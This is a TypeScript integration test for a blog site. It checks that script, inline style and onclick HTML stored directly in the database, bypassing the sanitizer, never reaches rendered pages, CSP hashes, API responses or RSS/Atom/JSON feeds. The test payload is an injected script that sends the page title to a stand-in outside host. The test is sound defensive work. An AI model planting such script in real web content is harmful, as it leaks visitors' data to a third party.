import { createHash } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { raiseContentVersion } from '../../server/content/content-version.ts';
import { openDatabase } from '../../server/db/open-database.ts';
import { until } from '../helpers/faults.ts';
import { startSite, type RunningSite } from '../helpers/start-site.ts';

const SLUG = 'month-end-close-with-a-remote-team';
const SCRIPT = 'fetch("https://elsewhere.example/"+document.title)';
const HTML = `<p>Still here.</p><script>${SCRIPT}</script><style>p{color:red}</style><p onclick="a()">And here.</p>`;

let site: RunningSite;
beforeAll(async () => {
  site = await startSite({ RATE_LIMIT: 'off', LOG_LEVEL: 'warn' });
}, 60_000);
afterAll(() => site.stop());

test('a script stored without passing the sanitizer appears neither on a page nor in its CSP', async () => {
  const page = async () => {
    const response = await fetch(`${site.url}/blog/${SLUG}`);
    return { html: await response.text(), policy: response.headers.get('Content-Security-Policy') };
  };
  expect((await page()).html).not.toContain('Still here.');
  const db = openDatabase(site);
  await db.updateTable('entries').set({ content_html: HTML }).where('slug', '=', SLUG).execute();
  await raiseContentVersion(db);
  await db.destroy();
  await until(async () => (await page()).html.includes('Still here.'), { within: 10_000 });

  const { html, policy } = await page();
  const hash = (text: string) => createHash('sha256').update(text).digest('base64');
  expect(html).toContain('<p>And here.</p>');
  for (const text of [SCRIPT, 'p{color:red}']) {
    expect(html).not.toContain(text);
    expect(policy).not.toContain(hash(text));
  }
  for (const path of [
    `/api/getBlogDetails.php?post_name=${SLUG}`,
    '/api/getBlogListing.php?post_type=post',
    '/rss.xml',
    '/atom.xml',
    '/feed.json',
  ]) {
    const text = await (await fetch(site.url + path)).text();
    expect(text, path).toContain('Still here.');
    expect(text, path).not.toMatch(/elsewhere\.example|onclick/);
  }
});
